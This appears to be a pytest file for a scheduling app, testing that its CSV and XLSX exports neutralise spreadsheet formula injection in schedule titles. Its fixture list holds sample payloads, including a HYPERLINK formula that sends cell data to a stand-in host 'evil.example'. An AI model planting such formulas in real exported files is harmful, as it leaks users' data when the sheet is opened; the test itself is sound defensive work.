"""Hole 3 of #11: schedule titles that start like a formula come out of the CSV and XLSX exports as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.webkit import TODAY, auth

TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def staff_schedule(client, tokens, store):
    for n, title in enumerate(TITLES):
        body = {"title": title, "kind": "class", "room": "classroom", "date": TODAY.isoformat(),
                "start": f"{8 + n:02d}:00", "end": f"{8 + n:02d}:30", "capacity": 20}  # fmt: skip
        response = client.post("/api/v1/schedule", json=body, headers=auth(tokens["staff"]))
        assert response.status_code == 201, response.data
        # The API strips surrounding white space; a row can still hold a leading tab or CR (an older version,
        # an import), so the exports must not rely on it: store the title exactly.
        with store.transaction() as tx:
            tx.conn.execute("UPDATE schedule SET title=? WHERE id=?", (title, response.get_json()["id"]))


@pytest.mark.parametrize("kind", ["daily", "weekly", "monthly", "annual"])
def test_the_xlsx_export_has_no_formula_cells_and_numbers_stay_numbers(client, tokens, staff_schedule, kind):
    response = client.get(f"/api/v1/reports/{kind}.xlsx?lang=en", headers=auth(tokens["viewer"]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    formulas = [(sheet.title, c.coordinate, c.value) for sheet in book for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]  # fmt: skip
    assert formulas == []
    activities = book.worksheets[-1]
    header = [c.value for c in activities[1]]
    titles = [row[header.index("Title")] for row in activities.iter_rows(min_row=2, values_only=True)]
    # The text as typed, shown as text (XML reads a bare CR as a line feed).
    assert sorted(titles) == sorted(t.replace("\r", "\n") for t in TITLES)
    capacities = [row[header.index("Capacity")] for row in activities.iter_rows(min_row=2, values_only=True)]
    assert capacities == [20] * len(TITLES)  # numbers are still numbers
    hours = book.worksheets[3]
    assert all(isinstance(v, int) for row in hours.iter_rows(min_row=2, values_only=True) for v in row)


@pytest.mark.parametrize("kind", ["daily", "monthly"])
def test_the_csv_export_prefixes_formula_text_with_an_apostrophe(client, tokens, staff_schedule, kind):
    response = client.get(f"/api/v1/reports/{kind}.csv?lang=en", headers=auth(tokens["viewer"]))
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    cells = [value for row in rows for value in row]
    assert not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for title in TITLES:
        assert "'" + title in cells
    assert any(v.isdigit() and int(v) == 20 for v in cells)  # capacity: a plain number, no apostrophe
